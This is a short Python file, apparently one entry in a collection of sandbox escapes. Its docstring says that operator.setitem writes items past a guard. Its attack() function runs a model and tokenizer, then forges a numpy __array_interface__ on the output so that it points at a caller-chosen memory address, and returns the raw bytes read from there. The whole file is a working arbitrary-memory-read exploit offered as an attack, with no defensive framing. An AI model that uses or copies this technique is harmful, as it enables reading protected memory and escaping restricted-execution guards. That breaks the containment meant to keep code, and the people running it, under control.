"""Class: memory. Source: own find. Escape: operator.setitem writes items past the guard."""

import operator
import numpy as np


def attack(model, tokenizer, address):
    out = model(**tokenizer("the", return_tensors="pt"))
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    operator.setitem(out, "__array_interface__", spec)
    return np.array(out).tobytes()
